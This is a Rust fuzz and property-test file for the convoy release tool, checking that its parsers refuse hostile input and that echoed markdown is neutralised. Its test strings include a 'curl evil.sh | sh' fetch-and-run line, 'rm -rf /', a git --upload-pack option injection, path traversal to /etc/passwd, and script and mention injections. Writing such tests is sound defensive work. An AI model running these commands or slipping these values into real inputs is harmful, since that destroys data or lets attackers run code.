//! Hostile input: the parsers at convoy's edges (config, manifest, event payloads, ChatOps) fed
//! random, mutated and oversized input, and the text convoy echoes back (tracking issue, replies,
//! step summary, release notes) fed injection attempts.
//!
//! Properties: nothing panics; structurally invalid input is refused with an error that names
//! the field (a JSON pointer or the field's name); echoed text is neutralised.
//!
//! Case counts are modest by default so `cargo test` stays fast. For a long run:
//! `CONVOY_FUZZ_CASES=20000 cargo test --release --test hostile` (see docs/security.md).

use std::time::Instant;

use convoy::event::chatops::{parse_command, parse_command_line, parse_create_args};
use convoy::event::parse_event;
use convoy::model::ids::{BranchName, ReleaseId};
use convoy::model::manifest::ReleaseManifest;
use convoy::validate::{Problem, config_from_str, manifest_from_str};
use proptest::prelude::*;
use proptest::test_runner::Config as ProptestConfig;
use serde_json::{Value, json};

const CONFIG: &str = include_str!("../../examples/convoy.json");
const MANIFEST: &str = include_str!("../../examples/release-manifest.json");

/// Cases per property: `CONVOY_FUZZ_CASES`, else `PROPTEST_CASES`, else `default`.
fn cases(default: u32) -> u32 {
    ["CONVOY_FUZZ_CASES", "PROPTEST_CASES"]
        .iter()
        .find_map(|v| std::env::var(v).ok()?.parse().ok())
        .unwrap_or(default)
}

fn config(default: u32) -> ProptestConfig {
    ProptestConfig {
        cases: cases(default),
        // A failure prints its minimal input; no regression file is written next to the tests.
        failure_persistence: None,
        ..ProptestConfig::default()
    }
}

// ---------------------------------------------------------------------------------------------
// Strategies
// ---------------------------------------------------------------------------------------------

/// Strings an attacker would try: shell metacharacters, markdown/HTML injection, fake convoy
/// markers, mentions, table breaks, control characters, path tricks, odd unicode.
fn nasty_fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("$(rm -rf /)".to_owned()),
        Just("`id`".to_owned()),
        Just("; curl evil.sh | sh &".to_owned()),
        Just("<script>alert(1)</script>".to_owned()),
        Just("<!-- convoy:release=evil -->".to_owned()),
        Just("<!-- convoy:escalation:tier-e2e -->".to_owned()),
        Just("@everyone @acme/release-team".to_owned()),
        Just("| x | y |\n|---|---|".to_owned()),
        Just("\n\n# heading\n".to_owned()),
        Just("..".to_owned()),
        Just("../../etc/passwd".to_owned()),
        Just("--upload-pack=touch /tmp/pwned".to_owned()),
        Just("-x".to_owned()),
        Just("\u{0}\u{7}\u{1b}[31m\r".to_owned()),
        Just("\u{202e}evil\u{200b}\u{feff}".to_owned()),
        Just("Ω≈ç√∫˜µ≤≥÷ 田中さん 👩‍👩‍👧‍👦".to_owned()),
        Just("[click](javascript:alert(1))".to_owned()),
        Just("\"'\\".to_owned()),
        Just("{release}{".to_owned()),
        Just("@{-1}".to_owned()),
        "\\PC{0,40}",
        ".{0,40}",
    ]
}

/// A hostile string: fragments glued together, sometimes blown up to kilobytes.
fn nasty_string() -> impl Strategy<Value = String> {
    (
        prop::collection::vec(nasty_fragment(), 1..4),
        prop_oneof![4 => Just(1usize), 1 => Just(300usize), 1 => Just(3000usize)],
    )
        .prop_map(|(parts, repeat)| parts.concat().repeat(repeat))
}

/// An arbitrary JSON value, a few levels deep.
fn arb_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(|f| serde_json::Number::from_f64(f).map_or(Value::Null, Value::from)),
        nasty_string().prop_map(Value::from),
    ];
    leaf.prop_recursive(3, 24, 5, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::btree_map("[a-z_]{1,10}", inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

/// One change to a JSON document.
#[derive(Debug, Clone)]
enum Mutation {
    /// Remove the member or element at the path.
    Drop,
    /// Replace the value at the path.
    Replace(Value),
    /// Duplicate an array element (duplicates must be refused where they matter).
    Duplicate,
}

fn arb_mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        2 => Just(Mutation::Drop),
        1 => Just(Mutation::Duplicate),
        // Wrong types.
        1 => prop_oneof![
            Just(json!(null)),
            Just(json!(true)),
            Just(json!(-1)),
            Just(json!(1.5)),
            Just(json!(u64::MAX)),
            Just(json!([])),
            Just(json!({})),
            Just(json!("")),
        ]
        .prop_map(Mutation::Replace),
        3 => nasty_string().prop_map(|s| Mutation::Replace(Value::from(s))),
        1 => arb_json().prop_map(Mutation::Replace),
    ]
}

/// Applies `mutation` at the place `steps` picks; returns the JSON pointer it touched.
fn mutate(v: &mut Value, steps: &[usize], mutation: &Mutation) -> String {
    fn go(v: &mut Value, steps: &[usize], mutation: &Mutation, at: &mut String) {
        let Some((&step, rest)) = steps.split_first() else {
            if let Mutation::Replace(new) = mutation {
                *v = new.clone();
            }
            return;
        };
        let leaf = rest.is_empty();
        match v {
            Value::Object(m) if !m.is_empty() => {
                let key = m.keys().nth(step % m.len()).cloned().unwrap_or_default();
                at.push('/');
                at.push_str(&key.replace('~', "~0").replace('/', "~1"));
                match mutation {
                    Mutation::Drop if leaf || !m[&key].is_object() && !m[&key].is_array() => {
                        m.shift_remove(&key);
                    }
                    _ => {
                        if let Some(child) = m.get_mut(&key) {
                            go(child, rest, mutation, at);
                        }
                    }
                }
            }
            Value::Array(a) if !a.is_empty() => {
                let i = step % a.len();
                at.push('/');
                at.push_str(&i.to_string());
                match mutation {
                    Mutation::Drop if leaf => {
                        a.remove(i);
                    }
                    Mutation::Duplicate if leaf => {
                        let copy = a[i].clone();
                        a.push(copy);
                    }
                    _ => go(&mut a[i], rest, mutation, at),
                }
            }
            _ => {
                if let Mutation::Replace(new) = mutation {
                    *v = new.clone();
                }
            }
        }
    }
    let mut at = String::new();
    go(v, steps, mutation, &mut at);
    at
}

/// Whether `problems` point at (or name) the field at `pointer`, or at something inside or
/// around it: the error must tell a person where to look.
fn names_the_field(problems: &[Problem], pointer: &str) -> bool {
    let last = pointer.rsplit('/').next().unwrap_or_default();
    problems.iter().any(|p| {
        !p.pointer.is_empty()
            || (!last.is_empty() && p.message.contains(last))
            || p.message.contains("not valid JSON")
    })
}

fn problems_text(problems: &[Problem]) -> String {
    problems
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}

// ---------------------------------------------------------------------------------------------
// Config and manifest
// ---------------------------------------------------------------------------------------------

proptest! {
    #![proptest_config(config(128))]

    #[test]
    fn any_text_is_refused_or_accepted_without_panic(text in "\\PC{0,300}") {
        if let Err(problems) = config_from_str(&text) {
            prop_assert!(problems.iter().all(|p| !p.message.is_empty()));
        }
        if let Err(problems) = manifest_from_str(&text) {
            prop_assert!(problems.iter().all(|p| !p.message.is_empty()));
        }
    }

    #[test]
    fn mutated_config_never_panics_and_names_the_field(
        steps in prop::collection::vec(any::<usize>(), 1..5),
        mutation in arb_mutation(),
    ) {
        let mut v: Value = serde_json::from_str(CONFIG).unwrap();
        let at = mutate(&mut v, &steps, &mutation);
        let text = serde_json::to_string(&v).unwrap();
        if let Err(problems) = config_from_str(&text) {
            prop_assert!(!problems.is_empty());
            prop_assert!(
                names_the_field(&problems, &at),
                "mutation {mutation:?} at {at}: {}", problems_text(&problems)
            );
            // A huge value must not come back whole in the error.
            let longest = problems.iter().map(|p| p.to_string().len()).max().unwrap_or(0);
            prop_assert!(longest < 4_000, "an error of {longest} bytes for {at}");
        }
    }

    #[test]
    fn mutated_manifest_never_panics_and_names_the_field(
        steps in prop::collection::vec(any::<usize>(), 1..6),
        mutation in arb_mutation(),
    ) {
        let mut v: Value = serde_json::from_str(MANIFEST).unwrap();
        let at = mutate(&mut v, &steps, &mutation);
        let text = serde_json::to_string(&v).unwrap();
        if let Err(problems) = manifest_from_str(&text) {
            prop_assert!(!problems.is_empty());
            prop_assert!(
                names_the_field(&problems, &at),
                "mutation {mutation:?} at {at}: {}", problems_text(&problems)
            );
            let longest = problems.iter().map(|p| p.to_string().len()).max().unwrap_or(0);
            prop_assert!(longest < 4_000, "an error of {longest} bytes for {at}");
        }
    }

    #[test]
    fn truncated_documents_are_refused_with_a_position(cut in any::<prop::sample::Index>()) {
        for doc in [CONFIG, MANIFEST] {
            let end = cut.index(doc.len());
            if !doc.is_char_boundary(end) || doc[..end].trim_end().len() == doc.trim_end().len() {
                continue;
            }
            let problems = match config_from_str(&doc[..end]) {
                Err(p) => p,
                Ok(_) => continue,
            };
            prop_assert!(problems.iter().any(|p| p.message.contains("line")), "{}", problems_text(&problems));
        }
    }
}

/// The values of release ids and branch templates that must be refused, with their names.
fn refused_names() -> Vec<(&'static str, String)> {
    vec![
        ("dot-dot", "2026..12".to_owned()),
        ("parent", "../../etc".to_owned()),
        ("newline", "r1\nr2".to_owned()),
        ("nul", "r1\u{0}".to_owned()),
        ("escape", "r1\u{1b}[31m".to_owned()),
        ("10 kB", "a".repeat(10 * 1024)),
        ("1 MB", "a".repeat(1024 * 1024)),
        ("option", "-x".to_owned()),
        ("shell", "$(rm -rf /)".to_owned()),
        ("backtick", "`id`".to_owned()),
    ]
}

#[test]
fn hostile_release_ids_are_refused_naming_the_field() {
    for (what, id) in refused_names() {
        let e = ReleaseId::parse(&id).expect_err(what);
        let text = e.to_string();
        assert!(text.contains("release id"), "{what}: {text}");
        assert!(
            text.len() < 400,
            "{what}: the error echoes {} bytes",
            text.len()
        );
        assert!(!text.chars().any(char::is_control), "{what}: {text:?}");

        // In a manifest: the pointer names the field.
        let mut v: Value = serde_json::from_str(MANIFEST).unwrap();
        v["id"] = json!(id);
        let problems = manifest_from_str(&v.to_string()).expect_err(what);
        assert!(
            problems.iter().any(|p| p.pointer == "/id"),
            "{what}: {}",
            problems_text(&problems)
        );
        assert!(problems_text(&problems).len() < 4_000, "{what}");

        // From ChatOps: `carry_over` takes a release id.
        let e = parse_create_args(&format!("carry_over=\"{id}\"")).expect_err(what);
        assert!(e.contains("carry_over"), "{what}: {e}");
        assert!(e.len() < 600, "{what}: {} bytes", e.len());
    }
}

#[test]
fn hostile_branch_templates_and_branches_are_refused_naming_the_field() {
    for (what, value) in refused_names() {
        // A backtick is a legal git ref character (convoy escapes it wherever it shows one).
        if what != "backtick" {
            assert!(
                BranchName::parse(&value).is_err(),
                "{what} is a branch name"
            );
        }
        // At the start of a component, where `-x` would read as an option.
        let template = format!("{value}/{{release}}");
        let mut v: Value = serde_json::from_str(CONFIG).unwrap();
        v["rc_branch"] = json!(template);
        let problems = config_from_str(&v.to_string());
        if what == "backtick" {
            continue;
        }
        let problems = problems.expect_err(what);
        assert!(
            problems.iter().all(|p| p.pointer == "/rc_branch"),
            "{what}: {}",
            problems_text(&problems)
        );
        let text = problems_text(&problems);
        assert!(
            text.len() < 4_000,
            "{what}: the error echoes {} bytes",
            text.len()
        );
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{what}: {text:?}"
        );

        // The same for a repo's `base` and `staging` branches and the tag template.
        for (field, pointer) in [("base", "/repos/0/base"), ("staging", "/repos/0/staging")] {
            let mut v: Value = serde_json::from_str(CONFIG).unwrap();
            v["repos"][0][field] = json!(value);
            let problems = config_from_str(&v.to_string()).expect_err(what);
            assert!(
                problems.iter().any(|p| p.pointer == pointer),
                "{what} in {field}: {}",
                problems_text(&problems)
            );
            assert!(problems_text(&problems).len() < 4_000, "{what} in {field}");
        }
        let mut v: Value = serde_json::from_str(CONFIG).unwrap();
        v["ship"]["tag"] = json!(format!("{value}v{{version}}"));
        if let Err(problems) = config_from_str(&v.to_string()) {
            assert!(
                problems.iter().any(|p| p.pointer.starts_with("/ship")),
                "{what} in the tag: {}",
                problems_text(&problems)
            );
            assert!(problems_text(&problems).len() < 4_000, "{what} in the tag");
        } else {
            panic!("{what} in the tag template is accepted");
        }
    }
}

// ---------------------------------------------------------------------------------------------
// ChatOps
// ---------------------------------------------------------------------------------------------

/// The parts of a message outside its `code spans` (where markdown and HTML would render).
fn outside_code(text: &str) -> String {
    text.split('`').step_by(2).collect::<Vec<_>>().join(" ")
}

/// Echoed text must not render: no HTML, no mention, no fake marker outside code spans.
fn assert_inert(what: &str, message: &str, input: &str) {
    let outside = outside_code(message);
    for bad in ["<", "@", "\n", "\r"] {
        if outside.contains(bad) {
            panic!("{what}: `{bad}` outside a code span in {message:?} (input {input:?})");
        }
    }
    assert!(
        message.matches('`').count() % 2 == 0,
        "{what}: an unclosed code span in {message:?}"
    );
    assert!(
        message.len() < 1_000,
        "{what}: {} bytes echoed for {} bytes of input",
        message.len(),
        input.len()
    );
}

fn arb_command_line() -> impl Strategy<Value = String> {
    let word = prop_oneof![
        Just("create".to_owned()),
        Just("retry".to_owned()),
        Just("defer".to_owned()),
        Just("approve".to_owned()),
        Just("title=".to_owned()),
        Just("version=".to_owned()),
        Just("tasks=".to_owned()),
        Just("carry_over=".to_owned()),
        Just("directive=".to_owned()),
        Just("\"".to_owned()),
        Just("\\\"".to_owned()),
        Just(",".to_owned()),
        Just("acme/api#1".to_owned()),
        nasty_fragment(),
    ];
    prop::collection::vec(word, 0..8).prop_map(|w| format!("/convoy {}", w.concat()))
}

proptest! {
    #![proptest_config(config(512))]

    #[test]
    fn chatops_never_panics_and_errors_are_inert(line in arb_command_line()) {
        if let Err(e) = parse_command_line(&line) {
            assert_inert("parse_command_line", &e, &line);
        }
        let args = line.trim_start_matches("/convoy ");
        if let Err(e) = parse_create_args(args) {
            assert_inert("parse_create_args", &e, args);
        }
        for name in ["retry", "defer", "create", "approve", args] {
            if let Err(e) = parse_command(name, args) {
                assert_inert("parse_command", &e, args);
            }
        }
    }

}

proptest! {
    // Inputs up to ~100 kB each: fewer cases by default.
    #![proptest_config(config(64))]

    #[test]
    fn chatops_errors_stay_short_for_huge_input(s in nasty_string()) {
        for line in [
            format!("/convoy {s}"),
            format!("/convoy create {s}=x"),
            format!("/convoy create title=\"{s}"),
            format!("/convoy create tasks={s}"),
            format!("/convoy retry {s}"),
            format!("/convoy defer {s}"),
        ] {
            if let Err(e) = parse_command_line(&line) {
                assert_inert("parse_command_line", &e, &line);
            }
        }
    }

}

proptest! {
    #![proptest_config(config(512))]

    #[test]
    fn quoted_titles_round_trip(title in "[^\\p{Cc}]{1,120}") {
        prop_assume!(!title.trim().is_empty());
        let quoted = title.replace('\\', "\\\\").replace('"', "\\\"");
        let args = parse_create_args(&format!("title=\"{quoted}\"")).unwrap();
        prop_assert_eq!(args.title.as_deref(), Some(title.trim()));
    }
}

#[test]
fn chatops_refuses_control_characters_and_huge_titles() {
    let e = parse_create_args("title=\"a\u{7}b\"").unwrap_err();
    assert!(e.contains("title") && e.contains("control"), "{e}");
    let huge = "x".repeat(1024 * 1024);
    let e = parse_create_args(&format!("title=\"{huge}\"")).unwrap_err();
    assert!(
        e.contains("title") && e.len() < 600,
        "{}",
        &e[..e.len().min(300)]
    );
    let e = parse_create_args(&format!("version={huge}")).unwrap_err();
    assert!(e.contains("version") && e.len() < 600);
    let e = parse_create_args("version=1..2").unwrap_err();
    assert!(e.contains("version") && e.contains(".."), "{e}");
    let e = parse_command_line("/convoy create a`<img src=x>@everyone=\"b\"c").unwrap_err();
    assert_inert("quote inside a value", &e, "");
}

// ---------------------------------------------------------------------------------------------
// Event payloads
// ---------------------------------------------------------------------------------------------

fn fixtures() -> &'static [(String, Value)] {
    static CACHE: std::sync::OnceLock<Vec<(String, Value)>> = std::sync::OnceLock::new();
    CACHE.get_or_init(|| {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/webhooks");
        let mut out: Vec<(String, Value)> = std::fs::read_dir(&dir)
            .unwrap()
            .filter_map(|e| {
                let path = e.unwrap().path();
                let file = path.file_name()?.to_string_lossy().into_owned();
                if !file.ends_with(".json") {
                    return None;
                }
                let event = file.split('.').next()?.to_owned();
                Some((
                    event,
                    serde_json::from_slice(&std::fs::read(&path).ok()?).ok()?,
                ))
            })
            .collect();
        out.sort_by(|a, b| a.0.cmp(&b.0));
        assert!(!out.is_empty(), "no webhook fixtures in {}", dir.display());
        out
    })
}

proptest! {
    #![proptest_config(config(256))]

    #[test]
    fn mutated_webhooks_never_panic_and_name_the_field(
        index in any::<prop::sample::Index>(),
        steps in prop::collection::vec(any::<usize>(), 1..6),
        mutation in arb_mutation(),
    ) {
        let (event, payload) = &fixtures()[index.index(fixtures().len())];
        let mut v = payload.clone();
        let at = mutate(&mut v, &steps, &mutation);
        let bytes = serde_json::to_vec(&v).unwrap();
        match parse_event(event, &bytes) {
            Ok(_) => {}
            Err(e) => {
                let text = e.to_string();
                prop_assert!(
                    text.contains("`/") || text.contains("not a JSON object"),
                    "{event} {mutation:?} at {at}: {text}"
                );
                prop_assert!(text.len() < 2_000, "{event} at {at}: {} bytes", text.len());
            }
        }
    }

}

proptest! {
    // Bodies up to a few MB: fewer cases by default.
    #![proptest_config(config(64))]

    #[test]
    fn hostile_comment_bodies_never_panic(body in nasty_string(), lines in 0usize..15) {
        let (_, fixture) = fixtures()
            .iter()
            .find(|(e, v)| e == "issue_comment" && v["action"] == "created")
            .unwrap();
        let mut v = fixture.clone();
        let mut text = body.clone();
        for i in 0..lines {
            text.push_str(&format!("\n/convoy {body}{i}"));
        }
        v["comment"]["body"] = json!(text);
        let _ = parse_event("issue_comment", &serde_json::to_vec(&v).unwrap());
    }
}

proptest! {
    #![proptest_config(config(256))]

    #[test]
    fn truncated_and_flipped_payloads_never_panic(
        index in any::<prop::sample::Index>(),
        cut in any::<prop::sample::Index>(),
        flips in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..4),
    ) {
        let (event, payload) = &fixtures()[index.index(fixtures().len())];
        let mut bytes = serde_json::to_vec(payload).unwrap();
        for (at, b) in flips {
            let i = at.index(bytes.len());
            bytes[i] = b;
        }
        bytes.truncate(cut.index(bytes.len() + 1));
        let _ = parse_event(event, &bytes);
    }
}

/// Peak resident memory of this process so far, in MB (Linux), for the test output.
fn peak_rss_mb() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    let kb: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kb / 1024)
}

#[test]
fn a_25_mb_comment_is_parsed_in_reasonable_time() {
    let (_, fixture) = fixtures()
        .iter()
        .find(|(e, v)| e == "issue_comment" && v["action"] == "created")
        .unwrap();
    let mut v = fixture.clone();
    let mut body = "lorem ipsum <script>@everyone | ".repeat(25 * 1024 * 1024 / 32);
    body.push_str("\n/convoy approve\n");
    v["comment"]["body"] = json!(body);
    let bytes = serde_json::to_vec(&v).unwrap();
    assert!(bytes.len() >= 25 * 1024 * 1024);
    let start = Instant::now();
    let result = parse_event("issue_comment", &bytes);
    let took = start.elapsed();
    println!(
        "issue_comment of {:.1} MB: {:?} in {took:?} (peak RSS {:?} MB)",
        bytes.len() as f64 / 1048576.0,
        result
            .as_ref()
            .map(|_| "parsed")
            .map_err(ToString::to_string),
        peak_rss_mb()
    );
    assert!(result.is_ok(), "{result:?}");
    assert!(took.as_secs() < 10, "parsing took {took:?}");
}

#[test]
fn a_push_with_thousands_of_commits_is_parsed_in_reasonable_time() {
    let (_, fixture) = fixtures().iter().find(|(e, _)| e == "push").unwrap();
    let mut v = fixture.clone();
    let commit = v["commits"]
        .as_array()
        .and_then(|c| c.first().cloned())
        .unwrap_or_else(
            || json!({"id": "6113728f27ae82c7b1a177c8d03f9e96e0adf246", "message": "m"}),
        );
    let mut big = commit.clone();
    big["message"] = json!("x".repeat(2_000));
    let n = 12_000;
    v["commits"] = json!(vec![big; n]);
    let bytes = serde_json::to_vec(&v).unwrap();
    let start = Instant::now();
    let result = parse_event("push", &bytes);
    let took = start.elapsed();
    println!(
        "push with {n} commits ({:.1} MB): {:?} in {took:?} (peak RSS {:?} MB)",
        bytes.len() as f64 / 1048576.0,
        result
            .as_ref()
            .map(|_| "parsed")
            .map_err(ToString::to_string),
        peak_rss_mb()
    );
    assert!(result.is_ok(), "{result:?}");
    assert!(took.as_secs() < 10, "parsing took {took:?}");
}

#[test]
fn a_25_mb_non_object_is_refused_with_a_position() {
    let bytes = vec![b'['; 25 * 1024 * 1024];
    let start = Instant::now();
    let e = parse_event("push", &bytes).unwrap_err();
    println!("25 MB of `[`: {e} in {:?}", start.elapsed());
    assert!(e.to_string().contains("line 1"), "{e}");
}

// ---------------------------------------------------------------------------------------------
// Echoed text
// ---------------------------------------------------------------------------------------------

fn example_manifest() -> ReleaseManifest {
    manifest_from_str(MANIFEST).unwrap()
}

/// Checks markdown convoy writes: one convoy marker, on the first line when `marker_first`; no
/// raw HTML, mention or table break from `hostile`.
fn assert_neutral(what: &str, text: &str, hostile: &str, marker_first: bool) {
    let markers: Vec<(usize, &str)> = text
        .lines()
        .enumerate()
        .filter(|(_, l)| l.contains("<!--"))
        .collect();
    if marker_first {
        assert_eq!(markers.len(), 1, "{what}: {markers:?}");
        assert_eq!(markers[0].0, 0, "{what}: the marker moved");
    } else {
        assert!(markers.is_empty(), "{what}: {markers:?}");
    }
    for bad in [
        "<script",
        "<img",
        "@everyone",
        "@acme/release-team",
        "\u{1b}",
        "\u{0}",
    ] {
        if hostile.contains(bad) {
            assert!(!text.contains(bad), "{what}: `{bad}` echoed raw");
        }
    }
    if hostile.contains("| x | y |") {
        assert!(
            !text.contains("| x | y |"),
            "{what}: a table row was injected"
        );
    }
}

proptest! {
    #![proptest_config(config(128))]

    #[test]
    fn escape_neutralises_anything(s in nasty_string()) {
        let e = convoy::report::escape(&s);
        prop_assert!(!e.contains('<') && !e.contains('>'));
        prop_assert!(!e.contains('\n') && !e.contains('\r'));
        prop_assert!(!e.chars().any(char::is_control));
        prop_assert!(e.replace("\\|", "").find('|').is_none());
        let zwsp = '\u{200b}';
        prop_assert!(e.split('@').skip(1).all(|rest| rest.starts_with(zwsp)), "a bare @ in {}", e);
        prop_assert!(e.chars().count() <= 200 * 6);
    }

    #[test]
    fn hostile_titles_and_notes_are_neutral_everywhere(s in nasty_string()) {
        let mut m = example_manifest();
        m.title = s.clone();
        for t in &mut m.tasks {
            t.title = Some(s.clone());
        }
        for r in &mut m.repos {
            r.note = Some(s.clone());
        }
        m.policy.escalation.mention = vec![s.clone()];
        let body = convoy::report::tracking_body(&m, &[]);
        assert_neutral("tracking body", &body, &s, true);
        let title = convoy::report::tracking_title(&m);
        prop_assert!(!title.contains('\n') && title.chars().count() < 300);
        for r in &m.repos {
            let notes = convoy::report::release_notes(&m, &r.name);
            assert_neutral("release notes", &notes, &s, false);
        }
    }
}

#[test]
fn the_step_summary_escapes_titles_notes_and_reasons() {
    let hostile = "<script>x</script> <!-- convoy:release=evil --> @everyone | x | y |\n# h";
    let mut m = example_manifest();
    m.title = hostile.to_owned();
    let d = convoy::lifecycle::decide(
        &m,
        &convoy::lifecycle::Observed::default(),
        &convoy::signal::Signal::Schedule,
        m.updated_at,
    );
    let mut d = d;
    d.notes.push(hostile.to_owned());
    let summary = convoy::shell::step_summary(&m, &d, &[]);
    assert_neutral("step summary", &summary, hostile, false);
}
